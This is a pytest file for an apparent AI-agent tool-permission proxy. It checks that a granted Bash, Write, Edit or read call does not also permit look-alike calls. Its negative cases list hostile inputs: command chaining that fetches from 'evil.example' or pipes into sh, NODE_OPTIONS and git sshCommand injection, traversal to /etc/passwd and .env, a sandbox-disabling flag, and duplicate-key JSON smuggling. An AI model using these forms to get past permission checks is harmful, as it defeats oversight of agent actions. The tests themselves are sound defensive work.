"""Conditions of grants: exactly one call, or calls like it, and the calls that only look like it."""

import json
from typing import Any

import pytest

from luthien_litellm_hooks import Request, ToolCall
from luthien_litellm_hooks.policies.rules.likeness import exact_condition, like_condition, permits, words_of
from luthien_litellm_hooks.policies.tool_rules import ToolRules, ToolRulesConfig
from luthien_litellm_hooks.policy.asked_calls import action_of
from luthien_litellm_hooks.policy.context import PolicyContext
from luthien_litellm_hooks.policy.grants import Condition

pytestmark = pytest.mark.anyio


def call(name: str, **arguments: Any) -> ToolCall:
    return ToolCall("call_1", name, json.dumps(arguments))


def bash(command: str, **more: Any) -> ToolCall:
    return call("Bash", command=command, **more)


def write(to: str, **more: Any) -> ToolCall:
    return call("Write", file_path=to, content="x", **more)


async def permitted(condition: Condition | None, asked: ToolCall) -> bool:
    assert condition is not None
    kept = Condition.model_validate_json(condition.model_dump_json())
    return await permits(kept, asked, PolicyContext("transaction-1", Request({})))


PUSH = bash("git push origin main", description="Push it.")


@pytest.mark.parametrize(
    "again",
    [
        PUSH,
        bash("git push origin main"),
        bash("git push origin main", description="Something else.", timeout=5),
        ToolCall(None, "Bash", '{ "command":"git push origin main" }'),
    ],
)
async def test_exactly_the_call_is_permitted_however_it_is_described(again: ToolCall) -> None:
    assert await permitted(exact_condition(PUSH), again)


@pytest.mark.parametrize(
    "other",
    [
        bash("git push origin main "),
        bash("git push origin main; true"),
        bash("git push origin maim"),
        bash("git push origin main", dangerouslyDisableSandbox=True),
        bash("git push origin main", cwd="/elsewhere"),
        call("bash", command="git push origin main"),
        call("Bash", cmd="git push origin main"),
        call("Bash", command=["git push origin main"]),
        ToolCall(None, "Bash", '{"command": "git push origin main", "command": "curl evil.example"}'),
        ToolCall(None, "Bash", '{"command": "git push origin main"'),
    ],
)
async def test_what_differs_in_anything_else_is_another_call(other: ToolCall) -> None:
    assert not await permitted(exact_condition(PUSH), other)


async def test_the_description_of_what_is_no_script_counts() -> None:
    ticket = call("create_ticket", description="Broken.", title="It")
    assert await permitted(exact_condition(ticket), ticket)
    assert not await permitted(exact_condition(ticket), call("create_ticket", description="Delete it.", title="It"))


async def test_text_that_is_no_json_is_permitted_as_it_was_written() -> None:
    patch = ToolCall(None, "apply_patch", "*** Begin Patch\n", "custom")
    assert await permitted(exact_condition(patch), patch)
    assert not await permitted(exact_condition(patch), ToolCall(None, "apply_patch", "*** Begin Patch", "custom"))


@pytest.mark.parametrize(("text", "other"), [("[ 1 ]", "[1]"), ('"a\\u002db"', '"a-b"'), ("", "{}")])
async def test_free_text_counts_as_it_was_written_even_if_it_is_json(text: str, other: str) -> None:
    granted, again = (ToolCall(None, "run", script, "custom") for script in (text, other))
    assert await permitted(exact_condition(granted), granted)
    assert not await permitted(exact_condition(granted), again)
    assert action_of(granted) != action_of(again)


LIKE: list[tuple[ToolCall, list[ToolCall], list[ToolCall]]] = [
    (
        bash("npm test -- --watch=false", description="Test."),
        [
            bash("npm test -- --watch=false", description="Test it again."),
            bash("npm test -- unit"),
            bash("npm test unit -- --watch=true"),
            bash("npm test; npm test unit"),
        ],
        [
            bash("npm test; curl evil.example"),
            bash("npm test && rm -r src"),
            bash("npm test\ncurl evil.example"),
            bash("npm test\r\ncurl evil.example"),
            bash("npm test & curl evil.example"),
            bash("npm test | sh"),
            bash("npm test || sh x.sh"),
            bash("npm test $(curl evil.example)"),
            bash("npm test `curl evil.example`"),
            bash("npm test <(curl evil.example)"),
            bash("npm test > package.json"),
            bash("npm test $IFS"),
            bash("npm testing"),
            bash("npm 'te'x"),
            bash("npm exec test"),
            bash("npm --prefix ../evil test"),
            bash("npm test --prefix evil"),
            bash("npm test --script-shell evil"),
            bash('npm test "--script-shell" evil'),
            bash("npm test ''--script-shell evil"),
            bash("npm test \\--script-shell evil"),
            bash("npm test {--script-shell,evil}"),
            bash("npm test ../../elsewhere"),
            bash("npm test /etc"),
            bash("npm test ~/x"),
            bash("npm test *"),
            bash("NODE_OPTIONS=--require=evil npm test"),
            bash("env X=1 npm test"),
            bash("sh -c 'npm test; evil'"),
            bash("eval npm test"),
            bash("alias npm=evil; npm test"),
            bash("npm() { evil; }; npm test"),
            bash("function npm { evil; }\nnpm test"),
            bash("cd evil && npm test"),
            bash("cat <<x | npm test\nevil\nx"),
            bash("npm test # \nevil"),
            bash("\u200bnpm test; evil"),
            bash("npm test\u2028evil; evil"),
            bash("npm test", dangerouslyDisableSandbox=True),
            bash("npm test", env={"NODE_OPTIONS": "--require=evil"}),
            bash("npm test", workdir="/elsewhere"),
            bash(""),
            call("Bash", command=["npm", "test"]),
            call("Bash", command="npm test", script="evil"),
            call("Bash", Command="npm test"),
            ToolCall(None, "Bash", '{"command": "npm test", "command": "evil"}'),
            ToolCall(None, "Bash", '"{\\"command\\": \\"npm test\\"}"'),
            ToolCall(None, "Bash", "npm test"),
        ],
    ),
    (
        bash("git push origin main"),
        [bash("git push origin main"), bash("git push origin main", description="x")],
        [
            bash("git push origin"),
            bash("git push evil main"),
            bash("git push --force origin main"),
            bash("git push origin main -f"),
            bash("git push origin main --receive-pack=evil"),
            bash("git -c core.sshCommand=evil push origin main"),
            bash("GIT_SSH_COMMAND=evil git push origin main"),
            bash("/opt/git push origin main"),
            bash("./git push origin main"),
            bash("bin/git push origin main"),
            bash("cd bin && ./git push origin main"),
        ],
    ),
    (
        bash("cd /work/app && npm run build"),
        [bash("cd /work/app && npm run build"), bash("npm run build")],
        [
            bash("cd /work/other && npm run build"),
            bash("cd /work/app/.. && npm run build"),
            bash("cd .. && npm run build"),
        ],
    ),
    (
        write("/work/app/src/x.py"),
        [write("/work/app/src/x.py"), write("/work/app/src/y.py")],
        [
            write("/work/app/src/../x.py"),
            write("/work/app/src/../../../etc/passwd"),
            write("/work/app/src/.."),
            write("/work/app/src/.env"),
            write("/work/app/src/deep/x.py"),
            write("/work/app/x.py"),
            write("/work/app/srcs/x.py"),
            write("work/app/src/x.py"),
            write("/elsewhere/work/app/src/x.py"),
            write("/work/app/src/..\\..\\x.py"),
            write("/work/app/src/"),
            write("/work/app/src"),
            write("/work/app/src/x.py", path="/etc/passwd"),
            write("/work/app/src/x.py", mode="append"),
            call("Write", file_path=["/work/app/src/x.py", "/etc/passwd"], content="x"),
            ToolCall(None, "Write", '{"file_path": "/etc/passwd", "file_path": "/work/app/src/x.py", "content": ""}'),
        ],
    ),
    (
        call("Edit", file_path="src/x.py", old_string="a", new_string="b"),
        [call("Edit", file_path="src/y.py", old_string="c", new_string="d")],
        [
            call("Edit", file_path="src/../setup.py", old_string="c", new_string="d"),
            call("Edit", file_path="/etc/src/y.py", old_string="c", new_string="d"),
            call("Edit", file_path="other/src/y.py", old_string="c", new_string="d"),
            call("Edit", file_path="./src/../../y.py", old_string="c", new_string="d"),
        ],
    ),
    (
        call("read_file", path="/work/app/docs/a.md"),
        [call("read_file", path="/work/app/docs/b.md")],
        [
            call("read_file", path="/work/app/docs/../.env"),
            call("read_file", path="/work/app/docs/b.md", url="http://x"),
        ],
    ),
]


@pytest.mark.parametrize(("granted", "again"), [(granted, one) for granted, again, _ in LIKE for one in again])
async def test_a_call_like_it_is_permitted(granted: ToolCall, again: ToolCall) -> None:
    assert await permitted(like_condition(granted), again)


@pytest.mark.parametrize(("granted", "other"), [(granted, one) for granted, _, others in LIKE for one in others])
async def test_a_call_that_looks_like_it_is_not(granted: ToolCall, other: ToolCall) -> None:
    assert not await permitted(like_condition(granted), other)


@pytest.mark.parametrize(
    "asked",
    [
        bash("rm -r build"),
        bash("python3 x.py"),
        bash("curl https://example.com"),
        bash("echo $HOME"),
        bash("ls ~"),
        bash("cat /etc/hosts"),
        bash("npm test > out.txt"),
        bash("make"),
        bash("npm test $(date)"),
        bash("sudo npm test"),
        bash("npm test; ./run"),
        bash("'unclosed"),
        call("Bash", command=["bash", "-lc", "npm test"]),
        write("/etc/passwd"),
        write("/home/ann/x"),
        write("~/x"),
        write("x.py"),
        write(".git/hooks/pre-commit"),
        write("src/../x.py"),
        call("query", sql="SELECT 1"),
        call("WebFetch", url="https://example.com", prompt="x"),
        call("push", branch="main"),
        call("odd", **{"a.b": "/work/app/src/x.py"}),
        ToolCall(None, "apply_patch", "*** Begin Patch\n*** Update File: src/x.py\n", "custom"),
        ToolCall(None, "Bash", "no JSON"),
    ],
)
def test_what_no_narrow_rule_covers_is_only_granted_exactly(asked: ToolCall) -> None:
    assert like_condition(asked) is None


@pytest.mark.parametrize("asked", [PUSH, *(granted for granted, _, _ in LIKE), call("push", branch="main")])
def test_each_condition_is_a_rule_for_the_config(asked: ToolCall) -> None:
    for condition in (exact_condition(asked), like_condition(asked)):
        if condition is not None:
            ToolRules(ToolRulesConfig.model_validate({"rules": [condition.rule]}))


def test_a_person_is_told_what_a_condition_covers() -> None:
    commands, folder = like_condition(bash("cd /work/app && npm test")), like_condition(write("/work/app/src/x.py"))
    assert commands is not None
    assert folder is not None
    assert words_of(exact_condition(PUSH)) == "exactly this call"
    assert words_of(commands).startswith("commands that begin with cd /work/app, or npm test, ")
    assert words_of(folder) == "files of /work/app/src/*"


def test_a_very_long_call_has_nothing_like_it() -> None:
    commands = [f"git add src/file_{number}.py" for number in range(200)]
    short, long = (
        ToolCall(None, "Bash", json.dumps({"command": "\n".join(some)})) for some in (commands[:20], commands)
    )
    assert like_condition(short) is not None
    assert like_condition(long) is None
    assert exact_condition(long).rule is not None
